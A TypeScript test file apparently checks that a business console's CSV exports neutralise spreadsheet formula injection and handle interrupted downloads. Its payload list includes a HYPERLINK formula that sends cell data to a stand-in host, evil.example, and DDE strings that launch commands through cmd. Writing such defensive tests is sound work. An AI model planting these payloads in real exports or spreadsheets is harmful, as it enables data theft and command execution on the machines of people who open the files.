import { afterAll, beforeAll, expect, it } from 'vitest'
import { startMisbehavingPlatform } from '../support/misbehaving-platform.ts'
import { startConsole } from '../support/console.ts'
import { plainAdministrator } from '../support/plain-platform.ts'
import type { Stored } from '../support/plain-platform/records.ts'
import { crossed, expectCases } from './support/cases.ts'
import { ask, signIn } from './support/http.ts'
import { type EmbeddedWorld, type PlainWorld, startEmbeddedWorld, startPlainWorld } from './support/worlds.ts'

let world: PlainWorld
let embedded: EmbeddedWorld

beforeAll(async () => {
  world = await startPlainWorld()
  embedded = await startEmbeddedWorld()
})

afterAll(async () => {
  await world.close()
  await embedded.close()
})

/** Texts that a spreadsheet would run, and ones that break a file's lines and cells. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1\r\n=2+2',
  '"=1+1',
  'a","=1+1',
  '＝1+1',
  '+234-1+1',
  '+234 805+1',
  '\n=1+1',
  '−1+1',
  ' =1+1',
  '\u200B=1+1',
  'x;=1+1',
  'x\t =1+1',
  'x\n=1+1',
]

/** A file taken apart by RFC 4180 and nothing else: quoted cells, doubled quotes, lines that end in CRLF. */
function parseCsv(text: string): string[][] {
  const lines: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  for (cell.lastIndex = 0; cell.lastIndex < text.length;) {
    const at = cell.lastIndex
    const match = cell.exec(text)
    if (!match) throw new Error(`This is no RFC 4180 at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`)
    lines.at(-1)?.push((match[1] ?? match[2] ?? '').replaceAll('""', '"'))
    if (match[3] === '\r\n') lines.push([])
  }
  return lines.filter((line) => line.length > 1)
}

/**
 * Whether a cell, or a part of it that another separator would make a cell, is run. A phone number, one plus with digits
 * and spaces, is not.
 */
const isFormula = (cell: string) =>
  /^[\t\r\n]/.test(cell) ||
  cell
    .split(/[;\t\r\n]/)
    .some((part) => /^[\s\u200B]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE62\u2212]/.test(part) && !/^\+\d[\d ]*$/.test(part))

const withoutApostrophes = (cell: string) => cell.replaceAll("'", '')

function expectHarmless(text: string): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true)
  const [header = [], ...lines] = parseCsv(text.slice(1))
  expect(lines.length).toBeGreaterThan(0)
  for (const line of lines) expect(line).toHaveLength(header.length)
  expect(lines.flat().filter(isFormula)).toEqual([])
  return lines
}

const fields = ['businessName', 'email', 'phone', 'country', 'state', 'city', 'category', 'code']

/** The first business with the formula in one field. */
function plant(field: string, formula: string): void {
  world.plain.reset()
  // A fresh store has businesses.
  const business = world.plain.store.businesses[0] as Stored
  if (field === 'category') business.account = { category: formula }
  else if (field === 'code') business.referral = { code: formula }
  else Object.assign(business, { [field]: formula, location: { ...(business.location as Stored), [field]: formula } })
}

/** What the plain platform writes into a file of its own, where it knows nothing of formulas. */
const writtenFields = ['businessName', 'email', 'phone', 'country', 'state', 'city']

it.for([
  ['that the console makes', '/businesses.csv?search=0', fields],
  ['of a platform that knows nothing of formulas', '/businesses.csv', writtenFields],
] as const)('no cell of a file %s runs in a spreadsheet', async ([, address, planted]) => {
  await expectCases({
    cases: crossed(planted, formulas),
    areAlike: true,
    nameOf: ([field, formula]) => `${JSON.stringify(formula)} in ${field}`,
    // The platform's data is changed for each.
    parallel: 1,
    async attempt([field, formula]) {
      plant(field, formula)
      const cookie = await signIn(world.origin, plainAdministrator)
      const reply = await ask(world.origin, address, { cookie })
      expect(reply.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/)
      const cells = expectHarmless(reply.text).flat()
      expect(cells.map(withoutApostrophes)).toContain(withoutApostrophes(formula))
    },
  })
})

it('no cell of a file that the embedded platform makes runs in a spreadsheet', async () => {
  const { data } = (await embedded.read('/admin/business')) as { data: Stored[] }
  await expectCases({
    cases: formulas.map((formula, index): [string, Stored] => [formula, data[index] as Stored]),
    nameOf: ([formula]) => JSON.stringify(formula),
    async attempt([formula, business]) {
      const changed = await ask(embedded.console.platformUrl, `/api/admin/business/${String(business._id)}`, {
        method: 'PATCH',
        body: JSON.stringify({ businessName: `x${formula}`.slice(1), firstName: formula, address: formula }),
        headers: {
          authorization: `Bearer ${embedded.token}`,
          'content-type': 'application/json',
          'if-match': `"${String(business.version)}"`,
        },
      })
      expect(changed.status).toBe(200)
      expectHarmless((await ask(embedded.origin, '/businesses.csv', { cookie: embedded.cookie })).text)
    },
  })
})

it('a download that fails half-way is cut where the browser sees it', async () => {
  const misbehaving = await startMisbehavingPlatform(world.plain.url)
  const running = await startConsole({ platformUrl: misbehaving.url })
  const cookie = await signIn(running.origin, plainAdministrator)
  await expectCases({
    cases: [
      ['/businesses.csv', 'reset in mid-body', 'cut'],
      ['/businesses.csv', 'status 503', 'refused'],
      ['/businesses.csv', 'status 404', 'refused'],
      ['/businesses.csv', 'bare 401', 'refused'],
      ['/businesses.csv?category=Groceries', 'reset in mid-body', 'refused'],
      ['/businesses.csv?category=Groceries', 'truncated JSON', 'refused'],
    ] as const,
    nameOf: ([path, kind]) => `${kind} at ${path}`,
    parallel: 1,
    async attempt([path, kind, expected]) {
      await misbehaving.heal()
      await misbehaving.misbehave({ kind })
      const outcome = await ask(running.origin, path, { cookie }).then(
        ({ status, headers }) =>
          headers['content-disposition'] ? 'a whole file' : status === 303 ? 'refused' : status,
        () => 'cut',
      )
      expect(outcome).toBe(expected)
    },
  }).finally(async () => {
    await running.stop()
    await misbehaving.close()
  })
})
